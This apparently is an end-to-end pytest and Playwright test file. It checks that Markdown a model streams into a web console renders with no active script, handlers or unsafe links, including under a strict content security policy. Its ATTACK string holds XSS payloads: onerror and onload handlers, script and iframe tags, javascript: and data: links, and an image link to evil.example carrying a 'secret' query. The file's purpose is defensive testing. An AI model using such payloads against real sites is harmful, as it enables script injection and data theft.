"""Markdown that a model streams into the console: shown, and never active."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Request, Route, expect

from tests.console.conftest import Scene
from tests.console.pages import visiting
from tests.console.test_try import say
from tests.e2e.processes import Edge, Origin, running

pytestmark = pytest.mark.anyio

ATTACK = """# A title <img src=x onerror="window.ran=1">

<script>window.ran = 2</script>

Some **bold** `code` [good](https://a.example/x) [bad](javascript:window.ran=3)
<a href="javascript:window.ran=4">click</a> ![loot](https://evil.example/?q=secret)

- [x] one
- two <svg onload="window.ran=5">

| a | b |
|---|--:|
| 1 | <iframe srcdoc="<script>parent.ran=6</script>"></iframe> |

> quoted

<style>body { display: none }</style>

[r]: javascript:window.ran=7
[r] [s](data:text/html,<script>opener.ran=8</script>)

```js
const html = "<script>window.ran = 9</script>";
"""
FOUND = """
    (root) => ({
        tags: [...new Set([...root.querySelectorAll("*")].map((one) => one.localName))].sort(),
        links: [...root.querySelectorAll("a")].map((one) => one.href),
        handlers: [...root.querySelectorAll("*")].flatMap((one) =>
            one.getAttributeNames().filter((name) => name.startsWith("on") || name === "style")),
        code: root.querySelector("pre > code").textContent.trim(),
        ran: window.ran ?? 0,
    })
"""
TAGS = "a blockquote code em h1 hr i li p pre span strong table tbody td th thead tr ul".split()
LINKS = ["https://a.example/x", "https://evil.example/?q=secret"]
OWN = """<!doctype html><title>x</title><main></main><script type="module" nonce="own">
    import { markdownInto } from "/web/tailrace/markdown_dom.js";
    window.markdownInto = markdownInto;
    document.title = "ready";
</script>"""
POLICY = "default-src 'none'; script-src 'nonce-own'; require-trusted-types-for 'script'"
"""The strictest policy: a browser refuses every string that is to become HTML."""
INTO = """
    (text) => {
        const root = document.querySelector("main");
        const show = window.markdownInto(root);
        // A target of links may change any block, so before it comes all finished ones stay.
        const target = text.indexOf("[r]:");
        for (let end = 1; end <= target; end += 7) show(text.slice(0, end));
        const first = root.firstElementChild;
        show(text.slice(0, target));
        const stays = root.firstElementChild === first;
        show(text);
        return stays;
    }
"""


@pytest.fixture
async def edge(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Edge]:
    folder = tmp_path_factory.mktemp("markdown")
    origin = Origin(folder / "data", producer="tests.console.writer:writer")
    made = Edge(origin)
    async with running(origin, made):
        yield made


async def test_nothing_that_a_model_writes_acts_in_the_page(scene: Scene, edge: Edge) -> None:
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    async with visiting(scene.browser, edge.url, "try") as visit:
        page = visit.page
        page.on("request", note)
        await page.get_by_role("option", name="writer").wait_for(state="attached")
        await page.get_by_role("radio", name="Chat").check()
        await say(page, ATTACK)
        answer = page.get_by_role("article")
        await expect(answer).to_have_attribute("aria-busy", "false")
        await expect(answer.locator("pre")).to_have_attribute("data-language", "js")
        await _check(await answer.evaluate(FOUND))
        await expect(answer).to_contain_text("<script>window.ran = 2</script>")
        assert await visit.violations() == []
        await visit.photograph("markdown")
        region = page.get_by_role("log", name="New text of the answer")
        await expect(region).to_contain_text("bold code good bad")  # without the marks
        assert all(url.startswith(edge.url) for url in asked), asked
        assert visit.faults == []


async def test_nothing_acts_in_a_page_of_its_own_under_the_strictest_policy(
    scene: Scene, edge: Edge
) -> None:
    url = f"{edge.url}/own"

    async def fulfil(route: Route) -> None:
        headers = {"Content-Security-Policy": POLICY}
        await route.fulfill(body=OWN, content_type="text/html", headers=headers)

    async with visiting(scene.browser, edge.url, "try") as visit:
        page = visit.page
        await page.route(url, fulfil)
        await page.goto(url)
        await expect(page).to_have_title("ready")
        assert await page.evaluate(INTO, ATTACK)
        await _check(await page.locator("main").evaluate(FOUND))
        assert visit.faults == []


async def _check(found: dict[str, object]) -> None:
    assert found["links"] == LINKS
    assert found["handlers"] == [] and found["ran"] == 0
    assert found["code"] == 'const html = "<script>window.ran = 9</script>";'
    tags = found["tags"]
    assert isinstance(tags, list) and set(tags) <= set(TAGS), tags
    assert {"h1", "strong", "table", "ul", "blockquote", "pre"} <= set(tags)
